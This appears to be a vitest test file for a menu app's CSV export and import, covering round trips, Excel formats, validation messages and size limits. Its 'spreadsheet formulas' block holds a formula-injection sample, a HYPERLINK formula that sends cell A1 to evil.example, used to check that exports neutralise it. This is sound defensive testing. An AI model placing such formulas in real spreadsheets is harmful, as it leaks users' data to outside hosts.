import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportItemsCsv, importItemsCsv, MAX_CSV_BYTES } from '#menus/itemsCsv';
import { MenuDocumentSchema, type MenuDocument } from '#protocol/menu';
import { bigMenu } from '../../support/bigMenu';

/** The sheet as a spreadsheet shows it, one record per row by header; edited, then saved again. */
function editSheet(csv: string, edit: (rows: Record<string, string>[], fields: string[]) => void): string {
  const sheet = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  const fields = [...sheet.meta.fields!];
  edit(sheet.data, fields);
  return Papa.unparse({ fields, data: sheet.data }, { newline: '\r\n' });
}

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
const itemOf = (menu: MenuDocument | undefined, id: string) => menu?.items.find((i) => i.id === id);

describe('items CSV: export and import back', () => {
  const { menu, pictures } = bigMenu(300);

  it('round-trips a real-world menu unchanged: 300 items, 12 categories, English, Arabic and French', () => {
    expect(menu.items.length).toBeGreaterThanOrEqual(250);
    expect(menu.categories.length).toBeGreaterThanOrEqual(9);
    expect(menu.locales).toContain('ar');

    const csv = exportItemsCsv(menu, { pictures });
    expect(csv.startsWith('\uFEFFid,category,category name,name:en,name:ar,name:fr,description:en,description:ar,description:fr,price,kcal,kJ,allergens,diet tags,image\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(cellsOf(csv)).toHaveLength(301);
    // Pictures by file name where the name is one picture's; else by id, or the bundled path.
    const images = new Set(cellsOf(csv).map((row) => row.at(-1)));
    expect(images).toContain('photo-1.jpg');
    expect(images).toContain('menu/burger.svg');
    expect(images).not.toContain('IMG_0001.jpg');

    const imported = importItemsCsv(menu, csv, { pictures });
    expect(imported.problems).toEqual([]);
    expect(imported.counts).toEqual({ added: 0, changed: 0, unchanged: 300 });
    expect(imported.menu).toEqual(menu);
  });

  it("round-trips Excel's European layout: semicolons and decimal commas, as bytes", () => {
    const csv = exportItemsCsv(menu, { pictures, separator: 'semicolon' });
    expect(cellsOf(csv)[1]).toContain('1,50');
    const imported = importItemsCsv(menu, new TextEncoder().encode(csv), { pictures });
    expect(imported.problems).toEqual([]);
    expect(imported.menu).toEqual(menu);
  });

  it('changes the rows it has, adds new ones at the end, and keeps the items and columns it does not have', () => {
    const csv = editSheet(exportItemsCsv(menu, { pictures }), (rows, fields) => {
      rows.splice(3);
      rows[0]!.price = '9.95';
      rows[1]!['name:ar'] = 'برغر دجاج جديد';
      rows.push({ id: '', category: 'salads', 'name:en': 'Crème brûlée', price: '4,50' });
      // Translators' and price lists need only some columns: energy, allergens and pictures stay.
      fields.splice(0, fields.length, 'id', 'category', 'name:en', 'name:ar', 'price');
    });
    const imported = importItemsCsv(menu, csv, { pictures });
    expect(imported.problems).toEqual([]);
    expect(imported.counts).toEqual({ added: 1, changed: 2, unchanged: 1 });
    const after = imported.menu!;
    expect(after.items).toHaveLength(301);
    expect(after.items.slice(3, 300)).toEqual(menu.items.slice(3));
    expect(after.items[0]).toEqual({ ...menu.items[0], priceCents: 995 });
    expect(after.items[1]).toEqual({ ...menu.items[1], name: { ...menu.items[1]!.name, ar: 'برغر دجاج جديد' } });
    expect(after.items[300]).toMatchObject({ id: 'creme-brulee', categoryId: 'salads', name: { en: 'Crème brûlée' }, priceCents: 450, allergens: [], description: {} });
  });

  it('empties what an empty cell empties: energy, allergens, a picture, a translation', () => {
    const csv = editSheet(exportItemsCsv(menu, { pictures }), (rows) => {
      Object.assign(rows[1]!, { kcal: '', kJ: '', allergens: '', 'diet tags': '', image: '', 'name:fr': '', 'description:ar': '' });
    });
    const item = itemOf(importItemsCsv(menu, csv, { pictures }).menu, menu.items[1]!.id)!;
    expect(item).toEqual({
      ...menu.items[1],
      name: { en: menu.items[1]!.name.en, ar: menu.items[1]!.name.ar },
      description: { en: menu.items[1]!.description.en },
      allergens: [],
      dietTags: [],
      energy: undefined,
      image: undefined,
    });
    expect('energy' in item || 'image' in item).toBe(false);
  });

  it('makes ids for new rows from their names, unique and the same on every import', () => {
    const csv = 'id,category,name:en,price\r\n,salads,Crème brûlée,4\r\n,salads,Crème Brûlée!,4\r\n,burgers,Burgers 1,5\r\n,burgers,"  ",5\r\n';
    const ids = (m: MenuDocument | undefined) => m?.items.slice(300).map((i) => i.id);
    const imported = importItemsCsv(menu, csv);
    expect(imported.problems).toEqual([{ row: 5, column: 'name:en', message: 'needs a text in en, the default locale' }]);
    const named = importItemsCsv(menu, csv.replace(',"  ",', ',برغر,'));
    expect(ids(named.menu)).toEqual(['creme-brulee', 'creme-brulee-2', 'burgers-1-2', 'item']);
    expect(ids(importItemsCsv(menu, csv.replace(',"  ",', ',برغر,')).menu)).toEqual(ids(named.menu));
  });
});

describe('items CSV: every problem of every row at once', () => {
  const { menu, pictures } = bigMenu(300);

  it('lists them by row, column and item name, and gives no menu', () => {
    const csv = editSheet(exportItemsCsv(menu, { pictures }), (rows, fields) => {
      fields.push('notes');
      rows[0]!.price = '12.5.0';
      rows[0]!.allergens = 'gluten|nut|Milk';
      rows[0]!['diet tags'] = 'keto';
      rows[1]!.category = 'burgerz';
      Object.assign(rows[1]!, { kcal: '250', kJ: '2000' });
      rows[2]!['name:en'] = '';
      rows[2]!['description:ar'] = 'ب'.repeat(281);
      rows[3]!.id = rows[0]!.id!;
      rows[4]!.image = 'missing.jpg';
      rows[5]!.price = '-3.00';
      rows[6]!['name:ar'] = 'ب'.repeat(81);
      rows[7]!.id = 'Bad Id!';
      rows[8]!.kcal = 'lots';
      rows[9]!.image = 'IMG_0001.jpg';
      rows[10]!.kJ = '';
      rows[11]!.price = '1,250';
      rows[12]!.price = '€12.50';
      rows.push({ id: '', category: 'salads', 'name:en': 'Crème brûlée', price: '12,50' });
    });
    const imported = importItemsCsv(menu, csv, { pictures });
    expect(imported.menu).toBeUndefined();
    expect(imported.problems).toEqual([
      { row: 1, column: 'notes', message: expect.stringMatching(/^unknown column: the columns are id, category, category name, name:en, .*, image$/) },
      { row: 2, column: 'price', item: 'Classic Burger', message: '"12.5.0" is not a price: write a number such as 12.50 or 12,50, without a currency sign or thousands separators' },
      { row: 2, column: 'allergens', item: 'Classic Burger', message: expect.stringMatching(/^unknown allergen "nut": the allergens are gluten, crustaceans, eggs, .*, molluscs$/) },
      { row: 2, column: 'diet tags', item: 'Classic Burger', message: 'unknown diet tag "keto": the diet tags are vegetarian, vegan, halal, kosher, gluten-free, dairy-free, spicy' },
      { row: 3, column: 'category', item: 'Classic Chicken Burger', message: expect.stringMatching(/^no category "burgerz": the categories are burgers, chicken-burgers, wraps, /) },
      { row: 3, column: 'kJ', item: 'Classic Chicken Burger', message: 'does not match 250 kcal (about 1046 kJ)' },
      { row: 4, column: 'name:en', item: 'Classic Wrap', message: 'needs a text in en, the default locale' },
      { row: 4, column: 'description:ar', item: 'Classic Wrap', message: 'at most 280 characters' },
      { row: 5, column: 'id', item: 'Classic Salad', message: '"burgers-1" is on row 2 too: an item may be in the file once' },
      { row: 6, column: 'image', item: 'Classic Fries', message: 'no uploaded picture is named "missing.jpg": upload it first, or leave the cell empty' },
      { row: 7, column: 'price', item: 'Classic Sundae', message: 'must not be negative' },
      { row: 8, column: 'name:ar', item: 'Classic Cone', message: 'at most 80 characters' },
      { row: 9, column: 'id', item: 'Classic Latte', message: 'lower-case letters, digits and dashes' },
      { row: 10, column: 'kcal', item: 'Classic Lemonade', message: '"lots" is not a number of kcal: write a whole number such as 250' },
      { row: 11, column: 'image', item: 'Classic Muffin', message: 'more than one picture is named "IMG_0001.jpg": write the id of the one you mean' },
      { row: 12, column: 'kJ', item: 'Classic Kids Meal', message: 'write both kcal and kJ, or neither' },
      { row: 13, column: 'price', item: 'Classic Shake', message: '"1,250" has more than two decimals: write it as 12.50 or 12,50' },
      { row: 14, column: 'price', item: 'Spicy Burger', message: expect.stringMatching(/^"€12.50" is not a price/) },
    ]);
    // Every row but the repeated one is counted, a wrong cell as if left as it was.
    expect(imported.counts).toEqual({ added: 2, changed: 4, unchanged: 294 });
  });

  it('names broken rows and stray quotes without reading their shifted cells', () => {
    const csv = 'id,category,name:en,price\r\nburgers-1,burgers,Classic Burger,1.50,extra\r\nwraps-3,wraps,"Classic "Wrap",2.00\r\nsalads-4,salads\r\n';
    expect(importItemsCsv(menu, csv).problems).toEqual([
      { row: 2, item: 'Classic Burger', message: 'has 5 cells where the header has 4: a text with a comma, semicolon or line break must be in double quotes' },
      { row: 3, message: 'a double quote (") is out of place: put the whole cell in double quotes, and double each quote inside it ("")' },
      { row: 4, item: 'Classic Salad', message: 'has 2 cells where the header has 4: a text with a comma, semicolon or line break must be in double quotes' },
    ]);
  });

  it('needs a header row with the required columns, and known languages', () => {
    const header = (csv: string) => importItemsCsv(menu, csv).problems;
    expect(header('burgers-1,burgers,Classic Burger,1.50\r\n')).toEqual([{ row: 1, message: expect.stringMatching(/^The first row must name the columns: id, category, /) }]);
    expect(header('id,name:en,Price,name:de,price\r\nburgers-1,Classic Burger,1.50,Klassiker,1.50\r\n')).toEqual([
      { row: 1, column: 'name:de', message: `"de" is not one of the menu's languages (en, ar, fr): add the language to the menu first, or delete the column` },
      { row: 1, column: 'price', message: 'this column is in the file twice: delete one' },
      { row: 1, column: 'category', message: 'missing column: the file needs the columns id, category, name:en, price' },
    ]);
    expect(header('id,category,name:en,price\r\n\r\n,,,\r\n')).toEqual([{ message: 'The file has no items below its header row.' }]);
  });

  it('reads a negative price as the number it is, quoted or not, and refuses it', () => {
    const problems = importItemsCsv(menu, "id,category,name:en,price\r\nburgers-1,burgers,Classic Burger,-2.00\r\nwraps-3,wraps,Classic Wrap,'-2.00\r\n").problems;
    expect(problems).toEqual([
      { row: 2, column: 'price', item: 'Classic Burger', message: 'must not be negative' },
      { row: 3, column: 'price', item: 'Classic Wrap', message: 'must not be negative' },
    ]);
  });
});

describe('items CSV: spreadsheet formulas', () => {
  const { menu, pictures } = bigMenu(30);
  const risky = structuredClone(menu);
  risky.items[0]!.name.en = '=HYPERLINK("http://evil.example/?leak="&A1,"Menu")';
  risky.items[1]!.name.en = '+1';
  risky.items[2]!.description.en = '-2+3';
  risky.items[3]!.name.fr = '@SUM(A1:A9)';
  risky.items[4]!.name.en = "'=already quoted";
  risky.items[5]!.name.en = "'Tis the season";
  const riskyMenu = MenuDocumentSchema.parse(risky);

  it('are written behind a single quote, so no cell of the file starts like one', () => {
    const csv = exportItemsCsv(riskyMenu, { pictures });
    const cells = cellsOf(csv).flat();
    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?leak="&A1,"Menu")', "'+1", "'-2+3", "'@SUM(A1:A9)", "''=already quoted", "'Tis the season"]));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Menu"")"');
  });

  it('come back as the text they were, exactly one quote stripped', () => {
    for (const separator of ['comma', 'semicolon'] as const) {
      const imported = importItemsCsv(riskyMenu, exportItemsCsv(riskyMenu, { pictures, separator }), { pictures });
      expect(imported.problems).toEqual([]);
      expect(imported.counts.unchanged).toBe(30);
      expect(imported.menu).toEqual(riskyMenu);
    }
  });
});

describe('items CSV: files as they come', () => {
  const { menu } = bigMenu(30);
  const excel = '\uFEFFid;category;name:en;name:ar;description:en;price\r\nburgers-1;burgers;Classic Burger;برغر كلاسيك;"Two patties;\r\none bun";12,50\r\n;salads;Crème brûlée;;;4\r\n';
  const expectExcelRead = (imported: ReturnType<typeof importItemsCsv>, lineBreak: string) => {
    expect(imported.problems).toEqual([]);
    expect(imported.counts).toEqual({ added: 1, changed: 1, unchanged: 0 });
    expect(itemOf(imported.menu, 'burgers-1')).toEqual({ ...menu.items[0], priceCents: 1250, description: { ...menu.items[0]!.description, en: `Two patties;${lineBreak}one bun` } });
    expect(itemOf(imported.menu, 'creme-brulee')).toMatchObject({ priceCents: 400, name: { en: 'Crème brûlée' } });
  };

  it("reads Excel's: byte order mark, CRLF, semicolons, decimal commas, a line break inside a cell", () => {
    expectExcelRead(importItemsCsv(menu, excel), '\r\n');
    expectExcelRead(importItemsCsv(menu, new TextEncoder().encode(excel)), '\r\n');
  });

  it('reads LF line ends, no byte order mark, and UTF-16 with its mark', () => {
    expectExcelRead(importItemsCsv(menu, excel.replace(/^\uFEFF/, '').replaceAll('\r\n', '\n')), '\n');
    const utf16 = new Uint8Array(Buffer.from(excel, 'utf16le'));
    expect([...utf16.slice(0, 2)]).toEqual([0xff, 0xfe]);
    expectExcelRead(importItemsCsv(menu, utf16), '\r\n');
  });

  it('refuses text that is not UTF-8, and files over 5 MiB, saying what to do', () => {
    const latin1 = new Uint8Array(Buffer.from('id,category,name:en,price\r\nburgers-1,burgers,Café,1.00\r\n', 'latin1'));
    const notUtf8 = [{ message: expect.stringContaining('The file is not UTF-8 text: in Excel, save it as "CSV UTF-8 (Comma delimited)"') }];
    expect(importItemsCsv(menu, latin1).problems).toEqual(notUtf8);
    expect(importItemsCsv(menu, new TextDecoder().decode(latin1)).problems).toEqual(notUtf8);
    // Arabic is two bytes a letter: under the limit in letters, over it in bytes.
    const arabic = `id,category,name:en,price\r\n${'ب'.repeat(MAX_CSV_BYTES / 2)}`;
    expect(arabic.length).toBeLessThan(MAX_CSV_BYTES);
    expect(importItemsCsv(menu, arabic).problems).toEqual([{ message: 'The file is 5.0 MiB; at most 5 MiB can be imported at once: split it in two.' }]);
  });
});

describe('items CSV: the largest menu', () => {
  const { menu, pictures } = bigMenu(5000);

  it('imports 5,000 rows, and refuses a file of more', () => {
    const csv = exportItemsCsv(menu, { pictures });
    const imported = importItemsCsv(menu, csv, { pictures });
    expect(imported.problems).toEqual([]);
    expect(imported.counts).toEqual({ added: 0, changed: 0, unchanged: 5000 });
    expect(imported.menu).toEqual(menu);

    const repriced = editSheet(csv, (rows) => rows.forEach((row) => (row.price = '3,00')));
    expect(importItemsCsv(menu, repriced, { pictures }).counts).toEqual({ added: 0, changed: 5000 - menu.items.filter((i) => i.priceCents === 300).length, unchanged: menu.items.filter((i) => i.priceCents === 300).length });

    const oneMore = `${csv},burgers,,One too many,,,,,,1.00,,,,,\r\n`;
    expect(importItemsCsv(menu, oneMore, { pictures }).problems).toEqual([{ message: 'The file has 5001 items; a menu holds at most 5000.' }]);
    const full = importItemsCsv(menu, 'id,category,name:en,price\r\n,burgers,One too many,1.00\r\n');
    expect(full.problems).toEqual([{ message: 'The menu would have 5001 items; it holds at most 5000: import fewer new rows.' }]);
  });
});
